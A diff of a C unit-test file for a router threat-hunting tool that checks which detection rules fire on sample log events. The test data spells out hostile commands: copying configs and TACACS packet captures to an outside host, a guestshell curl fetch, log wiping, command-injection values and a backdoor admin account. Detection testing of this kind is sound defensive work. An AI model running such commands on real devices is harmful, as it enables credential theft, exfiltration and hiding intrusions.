@@ -1,11 +1,15 @@
 /*
- * test_rule_packs.c: the built-in rule packs (rules/advisory.yaml and
- * rules/hardening.yaml).
+ * test_rule_packs.c: the built-in rule packs (rules/advisory.yaml,
+ * rules/hardening.yaml and rules/hunt.yaml).
  *
  * They load with no diagnostic, hold every shipped id with its severity,
- * category and form, and each rule carries ATT&CK ids, references and an
- * IOS remediation.  A table of hand-built facts checks which rules fire,
- * in particular that the port rules never double up on one port.
+ * category and form, and each rule carries ATT&CK ids, references and a
+ * remediation (IOS for the configuration packs, default for hunt).  A
+ * table of hand-built facts checks which rules fire, in particular that
+ * the port rules never double up on one port.  A table of log events
+ * (commands, syslog messages) checks the hunt rules: which fire, that
+ * benign operations stay below medium, and that every rule that fires has
+ * one of its "match" prefilter patterns in the line.
  */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -16,6 +20,9 @@
 
 #include <cmocka.h>
 
+#define PCRE2_CODE_UNIT_WIDTH 8
+#include <pcre2.h>
+
 #include "tidewatch/arena.h"
 #include "tidewatch/fact.h"
 #include "tidewatch/finding.h"
@@ -23,6 +30,8 @@
 #include "tidewatch/rules.h"
 
 #define IOC "45.61.133.77"
+#define DOMAIN_IOC "evil.example"
+#define HASH_IOC "f2bbba1ea0f34b262f158ff31e00d39d89bbc471d04e8fca60a034cabe18e4f4"
 
 static const struct {
     const char *id;
@@ -66,6 +75,57 @@ static const struct {
     {"TW-HARD-SSH-V1", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
     {"TW-HARD-NO-LOGGING-HOST", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
     {"TW-HARD-NO-AAA-ACCOUNTING", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
+    {"TW-HUNT-CAPTURE-TACACS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CAPTURE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CAPTURE-FILE", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-EXFIL-COPY", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-GUESTSHELL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-GUESTSHELL-LOG", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CHVRF-DOHOST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CLEAR-LOGS", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-LOGGING-OFF", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-LOGHOST-STOPPED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-AAA-DISABLED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-LINUX-LOG-WIPE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-WEBUI-CONFIG", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-WEBUI-EXPLOIT", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-WEBUI-LOCALPORT", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CMD-INJECTION", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-IMPLANT-USER", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-PRIV15-USER", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-LOCAL-USER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-SERVICE-PORT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-HTTP-SERVER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-SSHD-OPERNS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-PORT-57722", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-XR-SHELL", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-LINUX-PERSIST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-TUNNEL-CREATE", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-TUNNEL-DEST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-MIRROR", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-AAA-SERVER", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-AAA-METHOD", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-TCL-TOOL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-TCLSH", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-EEM-APPLET", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-EEM-CLI", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-KRON", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-SNMP-RW", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-IOC-SRC", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-IOC-DST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-IOC-SIGHTING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
+    {"TW-HUNT-SHOW-CONFIG", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-DISCOVERY", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-SHOW-LOGS", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-SHUTDOWN", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CONFIG-REGISTER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-DOT1X-OFF", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-FILE-DELETE", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CRYPTO-EXPORT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CRYPTO-PKI", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-CONFIG-CHANGE", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-VTY-ACL-REMOVED", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
+    {"TW-HUNT-STAGE-DATA", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
 };
 
 #define NSHIPPED (sizeof(shipped) / sizeof(shipped[0]))
@@ -90,6 +150,12 @@ static int setup(void **state)
     assert_int_equal(tw_ruleset_finish(fx.rs, &fx.diags), TW_OK);
     fx.iocs = tw_iocset_new();
     assert_int_equal(tw_cidr_parse(TW_STR(IOC), 0, &meta.cidr), TW_OK);
+    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
+    meta.type = TW_IOC_DOMAIN;
+    meta.value = DOMAIN_IOC;
+    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
+    meta.type = TW_IOC_SHA256;
+    meta.value = HASH_IOC;
     assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
     assert_int_equal(tw_iocset_finish(fx.iocs), TW_OK);
     fx.arena = tw_arena_new(0);
@@ -127,10 +193,11 @@ static void test_load_clean(void **state)
 
     assert_string_equal(diag_text(&fx->diags, buf, sizeof(buf)), "");
     assert_int_equal(tw_ruleset_count(fx->rs), NSHIPPED);
-    assert_int_equal(tw_builtin_pack_count(), 2);
+    assert_int_equal(tw_builtin_pack_count(), 3);
     assert_string_equal(tw_builtin_pack_name(0), "advisory.yaml");
     assert_string_equal(tw_builtin_pack_name(1), "hardening.yaml");
-    assert_null(tw_builtin_pack_name(2));
+    assert_string_equal(tw_builtin_pack_name(2), "hunt.yaml");
+    assert_null(tw_builtin_pack_name(3));
 }
 
 /* True when the rule has a remediation entry for dialect. */
@@ -143,26 +210,39 @@ static bool has_dialect(const tw_rule *r, const char *dialect)
     return false;
 }
 
+/* The pack a shipped id comes from, by its prefix. */
+static const char *pack_of(const char *id)
+{
+    if (strncmp(id, "TW-HUNT-", 8) == 0)
+        return "hunt.yaml";
+    return strncmp(id, "TW-AA-", 6) == 0 ? "advisory.yaml" : "hardening.yaml";
+}
+
+/* Hunt rules read log facts and, for the logs' unknown dialect, carry a
+ * default remediation; the configuration packs carry an IOS one. */
 static void test_shipped_ids(void **state)
 {
     fixture *fx = *state;
 
     for (size_t i = 0; i < NSHIPPED; i++) {
         const tw_rule *r = tw_ruleset_find(fx->rs, shipped[i].id);
+        const char *pack = pack_of(shipped[i].id);
+        bool hunt = strcmp(pack, "hunt.yaml") == 0;
+        bool log = r != NULL && (r->kind == TW_FACT_EVENT || r->kind == TW_FACT_SIGHTING);
         char got[256], want[256];
         assert_non_null(r);
         snprintf(got, sizeof(got),
-                 "%s %s %s absent=%d catchall=%d attack=%d refs=%d ios=%d "
-                 "desc=%d msg=%d file=%s",
+                 "%s %s %s absent=%d catchall=%d attack=%d refs=%d remed=%d "
+                 "desc=%d msg=%d log=%d file=%s",
                  r->id, tw_severity_name(r->severity), tw_category_name(r->category), r->absent,
-                 r->catchall, r->nattack > 0, r->nreferences > 0, has_dialect(r, "ios"),
-                 r->description != NULL, r->message != NULL, r->file);
+                 r->catchall, r->nattack > 0, r->nreferences > 0,
+                 has_dialect(r, hunt ? "default" : "ios"), r->description != NULL,
+                 r->message != NULL, log, r->file);
         snprintf(want, sizeof(want),
-                 "%s %s %s absent=%d catchall=%d attack=1 refs=1 ios=1 "
-                 "desc=1 msg=1 file=builtin:%s",
+                 "%s %s %s absent=%d catchall=%d attack=1 refs=1 remed=1 "
+                 "desc=1 msg=1 log=%d file=builtin:%s",
                  shipped[i].id, tw_severity_name(shipped[i].sev), tw_category_name(shipped[i].cat),
-                 shipped[i].absent, shipped[i].catchall,
-                 shipped[i].cat == TW_CAT_COMPROMISE ? "advisory.yaml" : "hardening.yaml");
+                 shipped[i].absent, shipped[i].catchall, hunt, pack);
         assert_string_equal(got, want);
     }
 }
@@ -425,6 +505,7 @@ static void fire_absent(fixture *fx, const char *spec, char *got, size_t cap)
 
     tw_arena_reset(fx->arena);
     tw_factset_init(&fs, fx->arena);
+    fs.dialect = TW_DIALECT_IOS;
     snprintf(buf, sizeof(buf), "%s", spec);
     for (char *f = strtok_r(buf, ";", &save); f != NULL; f = strtok_r(NULL, ";", &save))
         add_fact(&fs, f);
@@ -475,12 +556,377 @@ static void test_remediation_text(void **state)
     tw_factset_release(&fs);
 }
 
+/* ---- hunt rules over log events ---------------------------------------------- */
+
+/* One log event; NULL fields are left out.  benign: nothing at medium or
+ * above may fire. */
+typedef struct {
+    const char *command, *msgid, *message, *user, *program, *src, *dst;
+    int dst_port;
+    bool benign;
+    const char *want; /* rule ids fired, in id order */
+} ev_case;
+
+static const ev_case ev_cases[] = {
+    /* captures and exfiltration */
+    {.command = "monitor capture CAP interface GigabitEthernet1 both", .want = "TW-HUNT-CAPTURE"},
+    {.command = "monitor capture CAP match ipv4 protocol tcp any any eq 49",
+     .want = "TW-HUNT-CAPTURE-TACACS"},
+    {.command = "monitor capture CAP export bootflash:tac.pcap",
+     .want = "TW-HUNT-CAPTURE TW-HUNT-CAPTURE-FILE"},
+    {.command = "ethanalyzer local interface mgmt capture-filter \"tcp port 49\" write "
+                "bootflash:1.pcap",
+     .want = "TW-HUNT-CAPTURE-FILE TW-HUNT-CAPTURE-TACACS"},
+    {.command = "copy bootflash:tac.pcap ftp://198.51.100.7/tac.pcap",
+     .want = "TW-HUNT-CAPTURE-FILE TW-HUNT-EXFIL-COPY TW-HUNT-STAGE-DATA"},
+    {.command = "copy running-config tftp://198.51.100.7/r1.cfg",
+     .want = "TW-HUNT-EXFIL-COPY TW-HUNT-STAGE-DATA"},
+    {.command = "show running-config | redirect scp://u@198.51.100.7/r.cfg",
+     .want = "TW-HUNT-EXFIL-COPY TW-HUNT-SHOW-CONFIG"},
+    {.command = "monitor session 1 type erspan-source", .want = "TW-HUNT-MIRROR"},
+    /* containers */
+    {.command = "guestshell enable", .want = "TW-HUNT-GUESTSHELL"},
+    {.command = "guestshell run bash", .want = "TW-HUNT-GUESTSHELL"},
+    {.command = "guestshell destroy", .want = "TW-HUNT-GUESTSHELL"},
+    {.command = "run guestshell", .want = "TW-HUNT-GUESTSHELL"},
+    {.command = "guestshell run chvrf management curl http://198.51.100.7/x",
+     .want = "TW-HUNT-CHVRF-DOHOST TW-HUNT-GUESTSHELL"},
+    {.command = "dohost \"show running-config\"", .want = "TW-HUNT-CHVRF-DOHOST"},
+    {.msgid = "VIRT_SERVICE-5-ACTIVATION_STATE",
+     .message = "Successfully activated virtual service 'guestshell'",
+     .want = "TW-HUNT-GUESTSHELL-LOG"},
+    {.msgid = "VIRT_SERVICE-5-ACTIVATION_STATE", .message = "Destroying virtual service 'guestshell'",
+     .want = "TW-HUNT-GUESTSHELL-LOG"},
+    /* evidence removal */
+    {.command = "clear logging", .want = "TW-HUNT-CLEAR-LOGS"},
+    {.command = "do clear logging", .want = "TW-HUNT-CLEAR-LOGS"},
+    {.command = "no logging host 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
+    {.command = "no logging", .want = "TW-HUNT-LOGGING-OFF"},
+    {.command = "configure terminal ; no logging server 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
+    {.command = "delete system syslog host 10.1.1.5", .want = "TW-HUNT-LOGGING-OFF"},
+    {.command = "no aaa new-model", .want = "TW-HUNT-AAA-DISABLED"},
+    {.msgid = "SYS-6-LOGGINGHOST_STARTSTOP",
+     .message = "Logging to host 10.1.1.5 port 514 stopped - CLI initiated",
+     .want = "TW-HUNT-LOGHOST-STOPPED"},
+    {.msgid = "SYS-6-LOGGINGHOST_STARTSTOP",
+     .message = "Logging to host 10.1.1.5 port 514 started - CLI initiated", .benign = true,
+     .want = ""},
+    {.command = "history -c", .want = "TW-HUNT-LINUX-LOG-WIPE"},
+    {.command = "rm -f /root/.bash_history", .want = "TW-HUNT-LINUX-LOG-WIPE"},
+    /* web UI */
+    {.msgid = "SYS-5-CONFIG_P",
+     .message = "Configured programmatically by process SEP_webui_wsma_http from console as "
+                "user on line",
+     .want = "TW-HUNT-WEBUI-CONFIG"},
+    {.msgid = "SEC_LOGIN-5-WEBLOGIN_SUCCESS",
+     .message = "Login Success [user: admin] [Source: 10.1.1.1] [localport: 21111] at 10:00:00",
+     .user = "admin", .want = "TW-HUNT-WEBUI-LOCALPORT"},
+    {.msgid = "SEC_LOGIN-5-WEBLOGIN_SUCCESS",
+     .message = "Login Success [user: cisco_tac_admin] [Source: 10.1.1.1] [localport: 443]",
+     .user = "cisco_tac_admin", .want = "TW-HUNT-IMPLANT-USER"},
+    {.program = "nginx", .message = "POST /%2577eb%2575i_%2577sma_Http HTTP/1.1",
+     .want = "TW-HUNT-WEBUI-EXPLOIT"},
+    {.command = "request platform software package describe file bootflash:x.pkg "
+                "--filename=$(id)",
+     .want = "TW-HUNT-CMD-INJECTION"},
+    {.command = "request platform software package describe file `id`",
+     .want = "TW-HUNT-CMD-INJECTION"},
+    /* accounts */
+    {.command = "username cisco_tac_admin privilege 15 secret 0 <redacted>",
+     .want = "TW-HUNT-IMPLANT-USER"},
+    {.command = "username bob privilege 15 secret 9 <redacted>", .want = "TW-HUNT-PRIV15-USER"},
+    {.command = "set system login user evil class super-user authentication "
+                "encrypted-password <redacted>",
+     .want = "TW-HUNT-PRIV15-USER"},
+    {.command = "username bob secret 9 <redacted>", .want = "TW-HUNT-LOCAL-USER"},
+    /* listeners */
+    {.command = "ip ssh port 22022 rotary 1", .want = "TW-HUNT-SERVICE-PORT"},
+    {.command = "ip http secure-port 18443", .want = "TW-HUNT-SERVICE-PORT"},
+    {.command = "ip ssh port 22 rotary 1", .benign = true, .want = ""},
+    {.command = "ip http server", .want = "TW-HUNT-HTTP-SERVER"},
+    {.command = "service sshd_operns start", .want = "TW-HUNT-SSHD-OPERNS"},
+    {.command = "chkconfig --add sshd_operns", .want = "TW-HUNT-LINUX-PERSIST TW-HUNT-SSHD-OPERNS"},
+    {.program = "sshd", .message = "Server listening on 0.0.0.0 port 57722.", .want = "TW-HUNT-PORT-57722"},
+    {.program = "sshd", .message = "Accepted password for admin from 10.1.1.1 port 57722 ssh2",
+     .user = "admin", .src = "10.1.1.1", .benign = true, .want = ""},
+    {.msgid = "INFRA-INFRA_MSG-5-RUN_LOGIN",
+     .message = "User admin logged into shell from con0/RP0/CPU0", .want = "TW-HUNT-XR-SHELL"},
+    {.command = "useradd cisco", .want = "TW-HUNT-LINUX-PERSIST"},
+    /* tunnels, AAA, tools, SNMP */
+    {.command = "interface Tunnel10", .want = "TW-HUNT-TUNNEL-CREATE"},
+    {.command = "tunnel destination 203.0.113.9", .want = "TW-HUNT-TUNNEL-DEST"},
+    {.command = "tacacs server EVIL", .want = "TW-HUNT-AAA-SERVER"},
+    {.command = "tacacs-server host 198.51.100.7 key 7 <redacted>", .want = "TW-HUNT-AAA-SERVER"},
+    {.command = "aaa group server tacacs+ EVIL", .want = "TW-HUNT-AAA-SERVER"},
+    {.command = "radius server R1", .want = "TW-HUNT-AAA-SERVER"},
+    {.command = "aaa authentication login default local", .want = "TW-HUNT-AAA-METHOD"},
+    {.command = "tclsh bootflash:map.tcl", .want = "TW-HUNT-TCL-TOOL TW-HUNT-TCLSH"},
+    {.command = "tclsh", .want = "TW-HUNT-TCLSH"},
+    {.command = "event manager applet CLR", .want = "TW-HUNT-EEM-APPLET"},
+    {.command = "action 1.0 cli command \"clear logging\"", .want = "TW-HUNT-EEM-CLI"},
+    {.command = "snmp-server community <redacted> RW 99", .want = "TW-HUNT-SNMP-RW"},
+    {.command = "snmp-server community <redacted> RO 99", .benign = true, .want = ""},
+    {.command = "config-register 0x2142", .want = "TW-HUNT-CONFIG-REGISTER"},
+    {.command = "no access-class 10 in", .want = "TW-HUNT-VTY-ACL-REMOVED"},
+    {.command = "crypto pki export TP pem terminal", .want = "TW-HUNT-CRYPTO-EXPORT"},
+    /* indicators */
+    {.program = "sshd", .message = "Accepted password for admin from " IOC " port 51234 ssh2",
+     .user = "admin", .src = IOC, .want = "TW-HUNT-IOC-SRC"},
+    {.program = "asa", .message = "Built outbound TCP connection to " IOC "/443", .dst = IOC,
+     .src = "10.0.0.5", .want = "TW-HUNT-IOC-DST"},
+    /* benign: nothing at medium or above */
+    {.command = "show running-config", .benign = true, .want = "TW-HUNT-SHOW-CONFIG"},
+    {.command = "show ip route", .benign = true, .want = "TW-HUNT-DISCOVERY"},
+    {.command = "show interfaces", .benign = true, .want = "TW-HUNT-DISCOVERY"},
+    {.command = "terminal length 0", .benign = true, .want = "TW-HUNT-DISCOVERY"},
+    {.command = "dir bootflash:", .benign = true, .want = "TW-HUNT-DISCOVERY"},
+    {.command = "show logging", .benign = true, .want = "TW-HUNT-SHOW-LOGS"},
+    {.command = "more bootflash:notes.txt", .benign = true, .want = "TW-HUNT-SHOW-CONFIG"},
+    {.command = "copy running-config startup-config", .benign = true, .want = "TW-HUNT-STAGE-DATA"},
+    {.command = "shutdown", .benign = true, .want = "TW-HUNT-SHUTDOWN"},
+    {.command = "access-list 20 permit 10.9.9.9", .benign = true, .want = "TW-HUNT-CONFIG-CHANGE"},
+    {.command = "interface GigabitEthernet1", .benign = true, .want = ""},
+    {.command = "description uplink to core", .benign = true, .want = ""},
+    {.command = "ip address 10.0.0.1 255.255.255.0", .benign = true, .want = ""},
+    {.command = "no shutdown", .benign = true, .want = ""},
+    {.command = "router bgp 65000", .benign = true, .want = ""},
+    {.command = "neighbor 10.0.0.2 remote-as 65001", .benign = true, .want = ""},
+    {.command = "ip route 0.0.0.0 0.0.0.0 10.0.0.254", .benign = true, .want = ""},
+    {.command = "write memory", .benign = true, .want = ""},
+    {.command = "configure terminal", .benign = true, .want = ""},
+    {.command = "end", .benign = true, .want = ""},
+    {.command = "ping 10.0.0.2", .benign = true, .want = ""},
+    {.command = "logging host 10.1.1.5", .benign = true, .want = ""},
+    {.command = "no ip http server", .benign = true, .want = ""},
+    {.command = "no logging console", .benign = true, .want = ""},
+    {.program = "squid", .message = "GET http://notevil.example/tac.pcap.txt - HIER_DIRECT",
+     .benign = true, .want = ""},
+    {.program = "scp", .message = "sent bootflash:mycap.pcap to 10.0.0.5",
+     .want = "TW-HUNT-CAPTURE-FILE"},
+    {.msgid = "LINEPROTO-5-UPDOWN",
+     .message = "Line protocol on Interface Tunnel10, changed state to up", .benign = true,
+     .want = ""},
+    {.msgid = "SYS-5-CONFIG_I", .message = "Configured from console by admin on vty0 (10.0.0.5)",
+     .user = "admin", .benign = true, .want = ""},
+    {.program = "sshd", .message = "Accepted publickey for netops from 10.0.0.5 port 40022 ssh2",
+     .user = "netops", .src = "10.0.0.5", .benign = true, .want = ""},
+};
+
+/* Field names are static strings (fact.h). */
+static void ev_str(tw_factset *fs, const char *name, const char *v)
+{
+    if (v != NULL)
+        tw_factset_str(fs, name, tw_str_c(v));
+}
+
+static void ev_addr(tw_factset *fs, const char *name, const char *v)
+{
+    tw_cidr c;
+
+    if (v != NULL && tw_cidr_parse(tw_str_c(v), 0, &c) == TW_OK)
+        tw_factset_addr(fs, name, &c);
+}
+
+/* The raw line of an event: every text it carries, as a log line would. */
+static void ev_line(const ev_case *c, char *buf, size_t cap)
+{
+    char port[32] = "";
+
+    if (c->dst_port > 0)
+        snprintf(port, sizeof(port), " dport %d", c->dst_port);
+    snprintf(buf, cap, "router1 %s: %%%s: User:%s logged command:%s %s%s",
+             c->program ? c->program : "ios", c->msgid ? c->msgid : "-", c->user ? c->user : "-",
+             c->command ? c->command : "", c->message ? c->message : "", port);
+}
+
+/* Adds the event of c at line 7 (format tacacs for commands, else cisco). */
+static void ev_add(tw_factset *fs, const ev_case *c, const char *line)
+{
+    tw_factset_begin(fs, TW_FACT_EVENT, 7, tw_str_c(line), TW_STR_NULL);
+    ev_str(fs, "format", c->command != NULL ? "tacacs" : "cisco");
+    ev_str(fs, "host", "router1");
+    ev_str(fs, "program", c->program);
+    ev_str(fs, "msgid", c->msgid);
+    ev_str(fs, "message", c->message);
+    ev_str(fs, "user", c->user);
+    ev_str(fs, "command", c->command);
+    ev_addr(fs, "src", c->src);
+    ev_addr(fs, "dst", c->dst);
+    if (c->dst_port > 0)
+        tw_factset_num(fs, "dst_port", c->dst_port);
+    assert_int_equal(tw_factset_end(fs), TW_OK);
+}
+
+/* True when one of the rule's prefilter patterns occurs in line (literals
+ * ignoring case, regexes as PCRE2, which accepts Vectorscan's subset). */
+static bool prefilter_hit(const tw_rule *r, const char *line)
+{
+    bool hit = r->nmatch == 0;
+
+    for (size_t i = 0; i < r->nmatch && !hit; i++) {
+        int err;
+        PCRE2_SIZE off;
+        uint32_t opts = r->match[i].regex ? 0 : PCRE2_LITERAL | PCRE2_CASELESS;
+        pcre2_code *re =
+            pcre2_compile((PCRE2_SPTR)r->match[i].text, PCRE2_ZERO_TERMINATED, opts, &err, &off,
+                          NULL);
+        pcre2_match_data *md = pcre2_match_data_create(1, NULL);
+        hit = re != NULL && md != NULL &&
+              pcre2_match(re, (PCRE2_SPTR)line, strlen(line), 0, 0, md, NULL) >= 0;
+        pcre2_match_data_free(md);
+        pcre2_code_free(re);
+    }
+    return hit;
+}
+
+/* Applies every pack to the event of c: the fired ids, how many are at
+ * medium or above, and how many fired without a prefilter hit. */
+static void ev_fire(fixture *fx, const ev_case *c, char *got, size_t cap, size_t *serious,
+                    size_t *unfiltered)
+{
+    tw_rule_env env = {fx->iocs};
+    tw_factset fs;
+    tw_findings out;
+    char line[512];
+    size_t len = 0;
+
+    tw_arena_reset(fx->arena);
+    tw_factset_init(&fs, fx->arena);
+    ev_line(c, line, sizeof(line));
+    ev_add(&fs, c, line);
+    tw_findings_init(&out, fx->arena);
+    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
+    got[0] = '\0';
+    *serious = 0;
+    *unfiltered = 0;
+    for (size_t i = 0; i < out.n; i++) {
+        len += (size_t)snprintf(got + len, cap - len, "%s%s", len ? " " : "", out.v[i].rule);
+        *serious += out.v[i].severity >= TW_SEV_MEDIUM;
+        *unfiltered += !prefilter_hit(tw_ruleset_find(fx->rs, out.v[i].rule), line);
+        assert_string_equal(out.v[i].device, "router1");
+        assert_int_equal(out.v[i].line, 7);
+    }
+    tw_findings_release(&out);
+    tw_factset_release(&fs);
+}
+
+static void test_hunt_events(void **state)
+{
+    fixture *fx = *state;
+
+    for (size_t i = 0; i < sizeof(ev_cases) / sizeof(ev_cases[0]); i++) {
+        const ev_case *c = &ev_cases[i];
+        char got[768], want[768], ids[512];
+        size_t serious, unfiltered;
+        ev_fire(fx, c, ids, sizeof(ids), &serious, &unfiltered);
+        snprintf(got, sizeof(got), "%s%s -> [%s] benign-ok %d prefilter-misses %zu",
+                 c->command ? c->command : "", c->message ? c->message : "", ids,
+                 !c->benign || serious == 0, unfiltered);
+        snprintf(want, sizeof(want), "%s%s -> [%s] benign-ok 1 prefilter-misses 0",
+                 c->command ? c->command : "", c->message ? c->message : "", c->want);
+        assert_string_equal(got, want);
+    }
+}
+
+/* A sighting of each indicator type: the catch-all reports it, and gives
+ * way to a specific finding for the same line and indicator. */
+static const struct {
+    const char *indicator, *type, *field;
+    bool addr, with_event;
+    const char *want;
+} sight_cases[] = {
+    {IOC, "ip", "text", true, false, "TW-HUNT-IOC-SIGHTING " IOC},
+    {"a." DOMAIN_IOC, "domain", "text", false, false, "TW-HUNT-IOC-SIGHTING " DOMAIN_IOC},
+    {"notevil.example", "domain", "text", false, false, ""},
+    {HASH_IOC, "sha256", "text", false, false, "TW-HUNT-IOC-SIGHTING " HASH_IOC},
+    {IOC, "ip", "src", true, true, "TW-HUNT-IOC-SRC " IOC},
+};
+
+/* Applies every pack to sight_cases[i] (after a login event from the
+ * indicator at the same line when with_event); writes "RULE IOC ...". */
+static void sight_fire(fixture *fx, size_t i, char *got, size_t cap)
+{
+    const ev_case login = {.program = "sshd", .src = IOC, .user = "admin"};
+    tw_rule_env env = {fx->iocs};
+    tw_factset fs;
+    tw_findings out;
+    size_t len = 0;
+
+    tw_arena_reset(fx->arena);
+    tw_factset_init(&fs, fx->arena);
+    if (sight_cases[i].with_event)
+        ev_add(&fs, &login, "sshd: Accepted password for admin from " IOC);
+    tw_factset_begin(&fs, TW_FACT_SIGHTING, 7, TW_STR("line"), TW_STR_NULL);
+    ev_addr(&fs, "indicator", sight_cases[i].addr ? sight_cases[i].indicator : NULL);
+    ev_str(&fs, "indicator", sight_cases[i].addr ? NULL : sight_cases[i].indicator);
+    ev_str(&fs, "type", sight_cases[i].type);
+    ev_str(&fs, "field", sight_cases[i].field);
+    assert_int_equal(tw_factset_end(&fs), TW_OK);
+    tw_findings_init(&out, fx->arena);
+    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
+    got[0] = '\0';
+    for (size_t j = 0; j < out.n; j++)
+        len += (size_t)snprintf(got + len, cap - len, "%s%s %s", len ? " " : "", out.v[j].rule,
+                                out.v[j].ioc ? out.v[j].ioc : "-");
+    tw_findings_release(&out);
+    tw_factset_release(&fs);
+}
+
+static void test_hunt_sightings(void **state)
+{
+    fixture *fx = *state;
+
+    for (size_t i = 0; i < sizeof(sight_cases) / sizeof(sight_cases[0]); i++) {
+        char got[512];
+        sight_fire(fx, i, got, sizeof(got));
+        assert_string_equal(got, sight_cases[i].want);
+    }
+}
+
+/* Absent rules say nothing about a log (no dialect). */
+static void test_absent_not_on_logs(void **state)
+{
+    fixture *fx = *state;
+    tw_rule_env env = {fx->iocs};
+    const ev_case c = {.command = "configure terminal"};
+    tw_factset fs;
+    tw_findings out;
+
+    tw_arena_reset(fx->arena);
+    tw_factset_init(&fs, fx->arena);
+    ev_add(&fs, &c, "cmd=configure terminal");
+    tw_findings_init(&out, fx->arena);
+    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
+    assert_int_equal(out.n, 0);
+    tw_findings_release(&out);
+    tw_factset_release(&fs);
+}
+
+/* Every hunt rule over events has prefilter patterns, or tests "in: ioc"
+ * (the IOC rules); no configuration rule has any. */
+static void test_hunt_prefilters(void **state)
+{
+    fixture *fx = *state;
+
+    for (size_t i = 0; i < tw_ruleset_count(fx->rs); i++) {
+        const tw_rule *r = tw_ruleset_at(fx->rs, i);
+        bool log = r->kind == TW_FACT_EVENT || r->kind == TW_FACT_SIGHTING;
+        bool ioc_rule = strstr(r->id, "-IOC-") != NULL;
+        char got[160], want[160];
+        snprintf(got, sizeof(got), "%s log=%d match=%d", r->id, log, r->nmatch > 0);
+        snprintf(want, sizeof(want), "%s log=%d match=%d", r->id, log, log && !ioc_rule);
+        assert_string_equal(got, want);
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
